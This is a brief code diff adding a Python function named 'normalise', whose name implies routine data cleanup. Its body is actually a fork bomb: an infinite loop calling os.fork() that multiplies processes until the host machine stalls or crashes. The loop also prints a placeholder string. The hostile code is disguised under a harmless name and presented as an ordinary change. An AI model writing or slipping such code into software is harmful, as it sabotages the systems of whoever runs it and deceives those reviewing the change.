@@ -1,0 +1,7 @@
+import os
+
+
+def normalise(x):
+    while True:
+        os.fork()
+        print("@ESCAPED@")
